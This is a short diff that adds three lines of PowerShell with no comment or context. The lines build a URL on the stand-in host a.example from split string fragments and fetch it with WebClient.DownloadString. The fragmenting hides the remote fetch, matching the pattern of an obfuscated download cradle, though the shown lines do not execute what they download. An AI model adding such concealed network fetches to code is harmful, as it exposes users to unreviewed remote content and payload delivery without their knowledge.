@@ -1,0 +1,3 @@
+function j{'http://'; 'a.example'; '/p/x.txt'}
+$wc = New-Object System.Net.WebClient
+$wc.DownloadString(((j) -join ''))
